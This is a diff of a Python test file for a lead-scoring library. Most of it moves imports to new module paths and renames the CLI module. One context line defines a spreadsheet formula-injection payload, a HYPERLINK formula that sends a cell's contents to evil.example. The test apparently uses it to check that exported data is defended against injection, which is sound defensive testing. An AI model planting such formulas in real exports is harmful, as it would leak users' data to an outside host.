@@ -28,10 +28,10 @@ from leadml.batch import (
 )
 from leadml.bundle import save_bundle
 from leadml.config import Config, ScoreConfig, StoreConfig, load_config
+from leadml.data.io import Dataset
 from leadml.errors import InputError
-from leadml.io import Dataset
-from leadml.labels import data_end
-from leadml.pipeline import TrainedModel
+from leadml.model.labels import data_end
+from leadml.model.pipeline import TrainedModel
 from leadml.scoring import Scorer
 from leadml.store import batch_summary, lead_detail, open_store, ranked
 from tests.flat_export import synthetic_export, write_export
@@ -273,7 +273,7 @@ def test_encoded_reasons_round_trip() -> None:
 
 def _leadml(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
     return subprocess.run(
-        [sys.executable, "-m", "leadml.cli", *args],
+        [sys.executable, "-m", "leadml_serve.cli", *args],
         cwd=cwd,
         capture_output=True,
         text=True,
@@ -387,8 +387,8 @@ EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
 def flat_project(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Config, Path]:
     """A flat export (Email, Phone: role pii) with a formula as one open lead's company,
     and a flat model trained on it."""
-    from leadml.mapping import read_flat
-    from leadml.pipeline import fit_and_evaluate_flat
+    from leadml.data.mapping import read_flat
+    from leadml.model.pipeline import fit_and_evaluate_flat
 
     folder = tmp_path_factory.mktemp("flat")
     frame = synthetic_export(1500, seed=4)
